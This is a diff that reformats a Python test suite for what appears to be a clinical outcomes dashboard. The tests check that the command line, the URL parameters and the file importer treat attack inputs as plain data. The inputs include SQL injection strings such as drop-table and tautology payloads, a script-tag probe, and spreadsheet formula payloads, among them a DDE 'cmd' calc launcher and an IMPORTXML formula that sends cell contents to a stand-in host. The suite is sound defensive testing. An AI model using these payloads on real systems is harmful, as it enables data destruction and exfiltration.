@@ -45,7 +45,7 @@ LONG = "A" * 100_000  # under Linux's 128 KiB limit for one command-line argumen
 INJECTIONS = [
     "'; drop table scores; --",
     "x' or '1'='1",
-    "\"); delete from clients; --",
+    '"); delete from clients; --',
     "') union select client_id, 1 from clients --",
     "<script>alert(1)</script>",
     "ü漢字 \u202e\u200b 💊 Ω",
@@ -58,7 +58,8 @@ SQL_LEAK = re.compile(
     r"\bselect\s.*\bfrom\b|\bfrom\s+\w+(\s+\w+)?\s+(where|join|left|group|order)\b|\bwhere\s+[\w.]+\s*(=|<|>|is\b|in\b)"
     r"|\bjoin\s+\w+(\s+\w+)?\s+on\b|\bunion\s+all\b|\bLINE \d+:|\b\w+ Error: "
     r"|\b(try_cast|nullif|regexp_\w+|struct_pack|list_\w+)\(|\b_(raw|checked|valid|ranked|firsts|incoming)\b",
-    re.IGNORECASE)
+    re.IGNORECASE,
+)
 # the engine's own messages are short and controlled: they may not even say these words
 SQL_WORDS = re.compile(r"\bselect\b|\bfrom\s|\bwhere\b", re.IGNORECASE)
 # a cell a spreadsheet would run (or that some spreadsheets strip down to one that it would run)
@@ -87,11 +88,14 @@ def demo_copy(demo_db, tmp_path) -> Path:
 
 def fingerprint(con: duckdb.DuckDBPyConnection) -> dict[str, tuple]:
     """Every table of the database: its row count and an order-independent hash of its rows."""
-    tables = [r[0] for r in con.execute(
-        "select table_name from information_schema.tables where table_schema = 'main' and table_type = 'BASE TABLE' "
-        "order by table_name").fetchall()]
-    return {t: con.execute("select count(*), sum(hash(t)) from query_table($t) t", {"t": t}).fetchone()
-            for t in tables}
+    tables = [
+        r[0]
+        for r in con.execute(
+            "select table_name from information_schema.tables "
+            "where table_schema = 'main' and table_type = 'BASE TABLE' order by table_name"
+        ).fetchall()
+    ]
+    return {t: con.execute("select count(*), sum(hash(t)) from query_table($t) t", {"t": t}).fetchone() for t in tables}
 
 
 def fingerprint_file(path: Path) -> dict[str, tuple]:
@@ -134,12 +138,17 @@ def stored_formulas(con: duckdb.DuckDBPyConnection) -> list[tuple]:
     columns = con.execute(
         "select table_name, column_name from information_schema.columns c join information_schema.tables t "
         "using (table_schema, table_name) where table_schema = 'main' and t.table_type = 'BASE TABLE' "
-        "and c.data_type = 'VARCHAR'").fetchall()
+        "and c.data_type = 'VARCHAR'"
+    ).fetchall()
     found = []
     for table, column in columns:
-        found += [(table, column, v) for (v,) in con.execute(
-            f'select "{column}" from "{table}" where regexp_matches("{column}", \'^\\s*=\') '
-            f'and try_cast(trim("{column}") as double) is null limit 3').fetchall()]
+        found += [
+            (table, column, v)
+            for (v,) in con.execute(
+                f'select "{column}" from "{table}" where regexp_matches("{column}", \'^\\s*=\') '
+                f'and try_cast(trim("{column}") as double) is null limit 3'
+            ).fetchall()
+        ]
     return found
 
 
@@ -245,8 +254,14 @@ def test_wrongly_typed_filters_fail_with_a_clean_error(demo_copy, field):
 
 def run_cli(*args, tmp_path: Path) -> subprocess.CompletedProcess:
     env = {**os.environ, "OUTCOMES_DB": str(tmp_path / "not-used.duckdb"), "PYTHONPATH": str(PROJECT)}
-    return subprocess.run([sys.executable, "-m", "dashboard", *map(str, args)], cwd=PROJECT, env=env,
-                          capture_output=True, text=True, timeout=300)
+    return subprocess.run(
+        [sys.executable, "-m", "dashboard", *map(str, args)],
+        cwd=PROJECT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
 
 
 def test_command_line_filters_carry_injection_as_data(demo_copy, tmp_path):
@@ -255,8 +270,9 @@ def test_command_line_filters_carry_injection_as_data(demo_copy, tmp_path):
     for option in ("--modality", "--site", "--condition", "--clinician"):
         filters += [option, *INJECTIONS, f"{option}=-- drop table sessions"]  # a leading dash, as one value
     for fmt, expected in (("csv", ",".join(OUTCOME_COLUMNS)), ("json", "[]")):
-        done = run_cli("outcomes", "--db", demo_copy, "--instrument", "PHQ-9", *filters, "--format", fmt,
-                       tmp_path=tmp_path)
+        done = run_cli(
+            "outcomes", "--db", demo_copy, "--instrument", "PHQ-9", *filters, "--format", fmt, tmp_path=tmp_path
+        )
         assert done.returncode == 0, done.stderr[-2000:]
         assert done.stdout.strip() == expected, done.stdout[:500]  # the header only: nobody matches
         assert "Traceback" not in done.stderr
@@ -269,15 +285,19 @@ def test_command_line_filters_carry_injection_as_data(demo_copy, tmp_path):
     assert fingerprint_file(demo_copy) == before
 
 
-@pytest.mark.parametrize("args, expected", [
-    (["--instrument", "'; drop table scores; --"], "error: unknown instrument"),
-    (["--instrument", "x' or '1'='1"], "error: unknown instrument"),
-    (["--instrument", LONG], "error: unknown instrument"),
-    (["--instrument", "PHQ-9", "--by", "modality; drop table scores"], "invalid choice"),
-    (["--instrument", "PHQ-9", "--min-baseline", "1; delete from clients"], "not a number"),
-    (["--instrument", "PHQ-9", "--integration", "yes' or '1'='1"], "invalid choice"),
-    (["--instrument", "PHQ-9", "--at-days", "28:7); drop table scores; --"], "not DAY[:WINDOW]"),
-], ids=["instrument", "tautology", "long", "by", "min-baseline", "integration", "at-days"])
+@pytest.mark.parametrize(
+    "args, expected",
+    [
+        (["--instrument", "'; drop table scores; --"], "error: unknown instrument"),
+        (["--instrument", "x' or '1'='1"], "error: unknown instrument"),
+        (["--instrument", LONG], "error: unknown instrument"),
+        (["--instrument", "PHQ-9", "--by", "modality; drop table scores"], "invalid choice"),
+        (["--instrument", "PHQ-9", "--min-baseline", "1; delete from clients"], "not a number"),
+        (["--instrument", "PHQ-9", "--integration", "yes' or '1'='1"], "invalid choice"),
+        (["--instrument", "PHQ-9", "--at-days", "28:7); drop table scores; --"], "not DAY[:WINDOW]"),
+    ],
+    ids=["instrument", "tautology", "long", "by", "min-baseline", "integration", "at-days"],
+)
 def test_command_line_bad_values_exit_2_with_one_line(demo_copy, tmp_path, args, expected):
     before = fingerprint_file(demo_copy)
     done = run_cli("outcomes", "--db", demo_copy, *args, tmp_path=tmp_path)
@@ -291,8 +311,18 @@ def test_command_line_bad_values_exit_2_with_one_line(demo_copy, tmp_path, args,
 
 # --- (c) the URL -------------------------------------------------------------------------------------------
 
-URL_KEYS = ("instrument", "modality", "condition", "site", "clinician", "integration", "from", "to", "min_baseline",
-            "rates")
+URL_KEYS = (
+    "instrument",
+    "modality",
+    "condition",
+    "site",
+    "clinician",
+    "integration",
+    "from",
+    "to",
+    "min_baseline",
+    "rates",
+)
 
 
 @pytest.fixture
@@ -318,17 +348,22 @@ def metrics(at: AppTest) -> dict[str, str]:
     return {m.label: m.value for m in at.metric}
 
 
-@pytest.mark.parametrize("payloads", [
-    ["'; drop table scores; --", "x' or '1'='1"],
-    ["\"); delete from clients; --", "<script>alert(1)</script>"],
-    ["ü漢字 \u202e 💊", "A" * 5000, "nan", "-1e999"],
-], ids=["quote", "paren-script", "unicode-long-numbers"])
+@pytest.mark.parametrize(
+    "payloads",
+    [
+        ["'; drop table scores; --", "x' or '1'='1"],
+        ['"); delete from clients; --', "<script>alert(1)</script>"],
+        ["ü漢字 \u202e 💊", "A" * 5000, "nan", "-1e999"],
+    ],
+    ids=["quote", "paren-script", "unicode-long-numbers"],
+)
 def test_url_parameters_carry_injection_as_ignored_notices(app, demo_copy, payloads):
     before = fingerprint_file(demo_copy)
     clean = app(demo_copy, {})
     assert not clean.exception, [e.value for e in clean.exception]
-    query = {key: payloads if key in ("modality", "condition", "site", "clinician") else payloads[0]
-             for key in URL_KEYS}
+    query = {
+        key: payloads if key in ("modality", "condition", "site", "clinician") else payloads[0] for key in URL_KEYS
+    }
     query["min_baseline"] = payloads[-1]
     query["x'; drop table clients; --"] = payloads[0]
     at = app(demo_copy, query)
@@ -357,9 +392,12 @@ def test_upload_size_is_limited_to_200_mb_by_default():
 
 # --- the importer fuzzed ----------------------------------------------------------------------------------
 
-FUZZ = settings(max_examples=40, deadline=None, derandomize=True,
-                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
-                                       HealthCheck.data_too_large])
+FUZZ = settings(
+    max_examples=40,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
+)
 _counter = itertools.count()
 
 
@@ -375,8 +413,9 @@ def write_table(path: Path, header: list[str], rows: list[list], quoted: bool = 
             csv.writer(buf, lineterminator="\n").writerows([header, *rows])
             path.write_text(buf.getvalue(), encoding="utf-8", newline="")
         else:
-            path.write_text("".join(",".join(map(str, r)) + "\n" for r in [header, *rows]), encoding="utf-8",
-                            newline="")
+            path.write_text(
+                "".join(",".join(map(str, r)) + "\n" for r in [header, *rows]), encoding="utf-8", newline=""
+            )
     elif path.suffix == ".xlsx":
         from openpyxl import Workbook
         from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
@@ -389,8 +428,9 @@ def write_table(path: Path, header: list[str], rows: list[list], quoted: bool = 
                 cell.data_type = "s" if cell.value is not None else cell.data_type  # text, never a formula
         book.save(path)
     else:
-        columns = {h: pa.array([r[j] if j < len(r) else None for r in rows], type=pa.string())
-                   for j, h in enumerate(header)}
+        columns = {
+            h: pa.array([r[j] if j < len(r) else None for r in rows], type=pa.string()) for j, h in enumerate(header)
+        }
         pq.write_table(pa.table(columns), path)
     return path
 
@@ -417,20 +457,74 @@ GOOD = {
     **{f"item_{i}": ["0", "1", "3", ""] for i in range(1, 10)},
 }
 NASTY = [
-    "", " ", "NULL", "null", "None", "\\N", "NaN", "nan", "inf", "-inf", "Infinity", "1e309", "-0", "0x10", "1,5",
-    "١٢", "１２", "true", "[1, 2]", '{"a": 1}', "(1,2)", "<script>alert(1)</script>", "'; drop table scores; --",
-    "x' or '1'='1", "2024-02-30", "2024-13-01", "0001-01-01", "9999-12-31", "2024-01-01T25:61", "epoch",
-    "infinity", "today", "2024-01-01T00:00+99:00", "2024-01-01 00:00:00.123456789", "\u202e", "a" * 70,
-    "9" * 400, "1e-400", "-1", "3.0000000000000001", "=HYPERLINK(\"http://x\",\"y\")", "+cmd|' /C calc'!A0",
-    "@SUM(1+1)", "-2+3", " =1+1", "\t=1", "ﬁ", "İ", "ß", "\"quoted\"", "line\nbreak", "semi;colon", "a,b",
+    "",
+    " ",
+    "NULL",
+    "null",
+    "None",
+    "\\N",
+    "NaN",
+    "nan",
+    "inf",
+    "-inf",
+    "Infinity",
+    "1e309",
+    "-0",
+    "0x10",
+    "1,5",
+    "١٢",
+    "１２",
+    "true",
+    "[1, 2]",
+    '{"a": 1}',
+    "(1,2)",
+    "<script>alert(1)</script>",
+    "'; drop table scores; --",
+    "x' or '1'='1",
+    "2024-02-30",
+    "2024-13-01",
+    "0001-01-01",
+    "9999-12-31",
+    "2024-01-01T25:61",
+    "epoch",
+    "infinity",
+    "today",
+    "2024-01-01T00:00+99:00",
+    "2024-01-01 00:00:00.123456789",
+    "\u202e",
+    "a" * 70,
+    "9" * 400,
+    "1e-400",
+    "-1",
+    "3.0000000000000001",
+    '=HYPERLINK("http://x","y")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    " =1+1",
+    "\t=1",
+    "ﬁ",
+    "İ",
+    "ß",
+    '"quoted"',
+    "line\nbreak",
+    "semi;colon",
+    "a,b",
     "j.doe@example.org",
 ]
 KIND_HEADERS = {
     "clients": ["client_id", "site", "condition", "age_band", "sex", "prior_treatments"],
-    "sessions": ["client_id", "session_at", "session_type", "modality", "dose_mg", "clinician_id", "site",
-                 "session_id"],
-    "scores": ["client_id", "assessed_at", "instrument", "score", *[f"item_{i}" for i in range(1, 10)],
-               "session_id"],
+    "sessions": [
+        "client_id",
+        "session_at",
+        "session_type",
+        "modality",
+        "dose_mg",
+        "clinician_id",
+        "site",
+        "session_id",
+    ],
+    "scores": ["client_id", "assessed_at", "instrument", "score", *[f"item_{i}" for i in range(1, 10)], "session_id"],
     "scores_wide": ["client_id", "assessed_at", "phq9", "gad7"],
 }
 
@@ -461,9 +555,11 @@ def test_fuzzed_export_files_import_cleanly_or_fail_clearly(con, tmp_path, spec)
 
 
 @FUZZ
-@given(st_.sampled_from(["", ".csv", ".txt", ".xlsx", ".parquet", ".exe"]),
-       st_.sampled_from([b"", b"PK\x03\x04", b"PAR1", b"\xef\xbb\xbf", b"client_id,site\n", b"\xff\xfe", b"\x00"]),
-       st_.binary(max_size=3000))
+@given(
+    st_.sampled_from(["", ".csv", ".txt", ".xlsx", ".parquet", ".exe"]),
+    st_.sampled_from([b"", b"PK\x03\x04", b"PAR1", b"\xef\xbb\xbf", b"client_id,site\n", b"\xff\xfe", b"\x00"]),
+    st_.binary(max_size=3000),
+)
 def test_random_bytes_are_a_clear_error(con, tmp_path, suffix, magic, body):
     path = fresh(tmp_path, suffix)
     path.write_bytes(magic + body + (b"PAR1" if magic == b"PAR1" else b""))
@@ -472,15 +568,20 @@ def test_random_bytes_are_a_clear_error(con, tmp_path, suffix, magic, body):
 
 
 def _valid_bytes(suffix: str, tmp_path: Path) -> bytes:
-    path = write_table(fresh(tmp_path, suffix), KIND_HEADERS["clients"],
-                       [["C1", "North", "TRD", "18-24", "F", "2"], ["C2", "South", "PTSD", "65+", "M", "0"]])
+    path = write_table(
+        fresh(tmp_path, suffix),
+        KIND_HEADERS["clients"],
+        [["C1", "North", "TRD", "18-24", "F", "2"], ["C2", "South", "PTSD", "65+", "M", "0"]],
+    )
     return path.read_bytes()
 
 
 @FUZZ
-@given(st_.sampled_from([".xlsx", ".parquet"]), st_.lists(st_.tuples(st_.floats(0, 1), st_.integers(0, 255)),
-                                                          min_size=1, max_size=8),
-       st_.one_of(st_.none(), st_.floats(0.05, 1)))
+@given(
+    st_.sampled_from([".xlsx", ".parquet"]),
+    st_.lists(st_.tuples(st_.floats(0, 1), st_.integers(0, 255)), min_size=1, max_size=8),
+    st_.one_of(st_.none(), st_.floats(0.05, 1)),
+)
 def test_damaged_xlsx_and_parquet_files_are_a_clear_error(con, tmp_path, suffix, flips, cut):
     data = bytearray(_valid_bytes(suffix, tmp_path))
     for where, byte in flips:
@@ -510,8 +611,18 @@ def test_damaged_parts_of_an_xlsx_file_are_a_clear_error(con, tmp_path):
         assert report.status in ("unreadable", "imported", "unchanged"), (target, report.summary())
 
 
-ENCODINGS = ["latin-1", "cp1252", "mac_roman", "shift_jis", "gb18030", "utf-16", "utf-16-le", "utf-16-be", "utf-32",
-             "utf-8-sig"]
+ENCODINGS = [
+    "latin-1",
+    "cp1252",
+    "mac_roman",
+    "shift_jis",
+    "gb18030",
+    "utf-16",
+    "utf-16-le",
+    "utf-16-be",
+    "utf-32",
+    "utf-8-sig",
+]
 
 
 @FUZZ
@@ -540,21 +651,34 @@ def test_text_in_other_encodings_is_refused_with_a_clear_message(con, tmp_path, 
 def test_utf16_and_utf32_are_named_as_such(con, write_file, encoding):
     report = import_file(con, write_file("u.csv", "client_id,site\nC1,Zürich\n".encode(encoding)))
     assert report.status == "unreadable"
-    assert report.message == (f"u.csv: {encoding[:6].upper()} text, not UTF-8; save the file as UTF-8 CSV "
-                              "(in Excel: Save As, CSV UTF-8)")
+    assert report.message == (
+        f"u.csv: {encoding[:6].upper()} text, not UTF-8; save the file as UTF-8 CSV (in Excel: Save As, CSV UTF-8)"
+    )
 
 
 MB = 1_000_000
 
 
 # a 1 MB value where the contract wants a key, a time, a vocabulary word or a number is rejected; free text is kept
-MB_REJECTED = {"client_id", "session_at", "assessed_at", "instrument", "score", "item_1", "prior_treatments",
-               "dose_mg", "session_type"}
+MB_REJECTED = {
+    "client_id",
+    "session_at",
+    "assessed_at",
+    "instrument",
+    "score",
+    "item_1",
+    "prior_treatments",
+    "dose_mg",
+    "session_type",
+}
 
 
 @pytest.mark.parametrize("kind", ["clients", "sessions", "scores"])
-@pytest.mark.parametrize("suffix, quoted", [(".csv", False), (".csv", True), (".parquet", True)],
-                         ids=["csv-fast-path", "csv-quoted", "parquet"])
+@pytest.mark.parametrize(
+    "suffix, quoted",
+    [(".csv", False), (".csv", True), (".parquet", True)],
+    ids=["csv-fast-path", "csv-quoted", "parquet"],
+)
 def test_a_one_megabyte_field_in_any_column_is_handled(con, tmp_path, kind, suffix, quoted):
     header = KIND_HEADERS[kind]
     valid = ["C", "2024-01-04", "PHQ-9", "9", *["1"] * 9, "S1"] if kind == "scores" else [GOOD[h][0] for h in header]
@@ -628,8 +752,9 @@ def test_a_gap_in_the_item_columns_is_rejected_not_summed(con, write_file):
 
 
 def test_an_item_0_column_is_ignored(con, write_file):
-    report = import_file(con, write_file("i0.csv", "client_id,assessed_at,instrument,score,item_0\n"
-                                                    "Z1,2024-01-04,PHQ-9,5,1\n"))
+    report = import_file(
+        con, write_file("i0.csv", "client_id,assessed_at,instrument,score,item_0\nZ1,2024-01-04,PHQ-9,5,1\n")
+    )
     assert_clean_outcome(con, report)
     assert report.status == "imported" and report.ignored_columns == ["item_0"]
 
@@ -652,9 +777,10 @@ ODD_ARROW = {
     "float oddities": pa.array([float("nan"), float("inf"), 1e300]),
     "float32": pa.array([1.5, -2.0, None], type=pa.float32()),
     "timestamp": pa.array([dt.datetime(2024, 1, 1), None, dt.datetime(1, 1, 1)], type=pa.timestamp("us")),
-    "timestamp tz": pa.array([dt.datetime(2024, 1, 1, tzinfo=dt.UTC), None, None],
-                             type=pa.timestamp("ns", tz="Europe/Berlin")),
-    "large string": pa.array(["=HYPERLINK(\"http://x\",\"y\")", None, "x"], type=pa.large_string()),
+    "timestamp tz": pa.array(
+        [dt.datetime(2024, 1, 1, tzinfo=dt.UTC), None, None], type=pa.timestamp("ns", tz="Europe/Berlin")
+    ),
+    "large string": pa.array(['=HYPERLINK("http://x","y")', None, "x"], type=pa.large_string()),
 }
 
 
@@ -678,8 +804,15 @@ def test_parquet_columns_of_every_type_import_cleanly(con, tmp_path, kind, data)
 
 # --- spreadsheet formulas ------------------------------------------------------------------------------------
 
-FORMULA_PAYLOADS = ["HYPERLINK(\"http://x\",\"y\")", "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0", "1+1", "2",
-                    "A1", "IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"]
+FORMULA_PAYLOADS = [
+    'HYPERLINK("http://x","y")',
+    "cmd|' /C calc'!A0",
+    "SUM(1+1)*cmd|' /C calc'!A0",
+    "1+1",
+    "2",
+    "A1",
+    'IMPORTXML(CONCAT("http://x/?",A1),"//a")',
+]
 
 
 @st_.composite
@@ -710,20 +843,19 @@ def test_formula_cells_are_neutralised_in_every_csv_and_never_stored(con, tmp_pa
     assert formula_cells(out.read_bytes()) == []
     assert formula_cells(to_csv_bytes(rejects_frame(reports))) == []
     for table in ("clients", "sessions", "scores", "import_log", "import_rejects"):
-        assert formula_cells(to_csv_bytes(con.execute("select * from query_table($t)", {"t": table}).df())) == [], \
-            table
+        assert formula_cells(to_csv_bytes(con.execute("select * from query_table($t)", {"t": table}).df())) == [], table
     assert stored_formulas(con) == []
 
 
 def test_formula_cells_through_the_command_line_import(tmp_path):
-    hyper = "=HYPERLINK(\"http://x\",\"y\")"
+    hyper = '=HYPERLINK("http://x","y")'
     files = []
     for kind in ("clients", "sessions", "scores"):
         header = KIND_HEADERS[kind]
         rows = [[hyper] * len(header), *([f"{p}cmd|' /C calc'!A0"] * len(header) for p in "+-@")]
         good = [GOOD[h][0] for h in header]
         for j in range(1, len(header)):  # a valid row but for one formula cell, in each column in turn
-            rows.append([f"R{j}", *good[1:j], hyper, *good[j + 1:]])
+            rows.append([f"R{j}", *good[1:j], hyper, *good[j + 1 :]])
         files.append(write_table(tmp_path / f"{kind}.csv", header, rows))
     db, out = tmp_path / "formulas.duckdb", tmp_path / "rejects.csv"
     done = run_cli("import", "--db", db, "--rejects", out, *files, tmp_path=tmp_path)
@@ -745,19 +877,27 @@ def test_formula_cells_through_the_command_line_import(tmp_path):
 
 def test_an_upload_named_as_a_formula_is_neutralised(con, write_file):
     path = write_file("tmp.csv", "client_id,prior_treatments\nN1,-1\n")
-    name = "=HYPERLINK(\"http://x\",\"y\").csv"
-    report, = import_files(con, [path], names=[name])
+    name = '=HYPERLINK("http://x","y").csv'
+    (report,) = import_files(con, [path], names=[name])
     assert report.file == name
     assert formula_cells(to_csv_bytes(rejects_frame([report]))) == []
     assert stored_formulas(con) == []
 
 
 @settings(max_examples=60, deadline=None, derandomize=True)
-@given(st_.lists(st_.tuples(st_.one_of(formulas(), st_.text(max_size=8), st_.sampled_from(NASTY)),
-                            st_.one_of(formulas(), st_.text(max_size=8)),
-                            st_.one_of(st_.none(), st_.integers(-5, 5), st_.floats(allow_nan=True))),
-                min_size=0, max_size=6),
-       st_.sampled_from(["object", "str", "category"]), st_.one_of(formulas(), st_.just("=dup")))
+@given(
+    st_.lists(
+        st_.tuples(
+            st_.one_of(formulas(), st_.text(max_size=8), st_.sampled_from(NASTY)),
+            st_.one_of(formulas(), st_.text(max_size=8)),
+            st_.one_of(st_.none(), st_.integers(-5, 5), st_.floats(allow_nan=True)),
+        ),
+        min_size=0,
+        max_size=6,
+    ),
+    st_.sampled_from(["object", "str", "category"]),
+    st_.one_of(formulas(), st_.just("=dup")),
+)
 def test_to_csv_bytes_leaves_no_formula_in_any_cell(rows, text_dtype, name):
     frame = pd.DataFrame(rows, columns=["a", name, "n"])
     frame["a"] = frame["a"].astype(text_dtype)
@@ -768,12 +908,26 @@ def test_to_csv_bytes_leaves_no_formula_in_any_cell(rows, text_dtype, name):
     assert len(pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)) == len(frame)
 
 
-@pytest.mark.parametrize("value, shown", [
-    ("-12.5", "-12.5"), ("-3e2", "-3e2"), ("-0", "-0"),
-    ("-inf", "'-inf"), ("-nan", "'-nan"), ("-1_000", "'-1_000"), (" -1", "' -1"), ("+5", "'+5"),
-    ("=1+1", "'=1+1"), (" =1+1", "' =1+1"), ("\n=1", "'\n=1"), ("\t=1", "'\t=1"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("plain", "plain"), ("a=b", "a=b"),
-])
+@pytest.mark.parametrize(
+    "value, shown",
+    [
+        ("-12.5", "-12.5"),
+        ("-3e2", "-3e2"),
+        ("-0", "-0"),
+        ("-inf", "'-inf"),
+        ("-nan", "'-nan"),
+        ("-1_000", "'-1_000"),
+        (" -1", "' -1"),
+        ("+5", "'+5"),
+        ("=1+1", "'=1+1"),
+        (" =1+1", "' =1+1"),
+        ("\n=1", "'\n=1"),
+        ("\t=1", "'\t=1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("plain", "plain"),
+        ("a=b", "a=b"),
+    ],
+)
 def test_neutralise_keeps_only_plain_negative_numbers(value, shown):
     from dashboard.export import neutralise
 
@@ -781,10 +935,13 @@ def test_neutralise_keeps_only_plain_negative_numbers(value, shown):
 
 
 def test_a_carriage_return_cannot_start_a_new_row_in_a_csv():
-    data = to_csv_bytes(pd.DataFrame({"site": ["North\r=HYPERLINK(\"http://x\",\"y\")", "South\n@SUM(1)"]}))
+    data = to_csv_bytes(pd.DataFrame({"site": ['North\r=HYPERLINK("http://x","y")', "South\n@SUM(1)"]}))
     assert formula_cells(data) == []
     assert list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""))) == [
-        ["site"], ["North\r=HYPERLINK(\"http://x\",\"y\")"], ["South\n@SUM(1)"]]
+        ["site"],
+        ['North\r=HYPERLINK("http://x","y")'],
+        ["South\n@SUM(1)"],
+    ]
 
 
 def test_the_outcomes_command_csv_neutralises_group_labels(tmp_path):
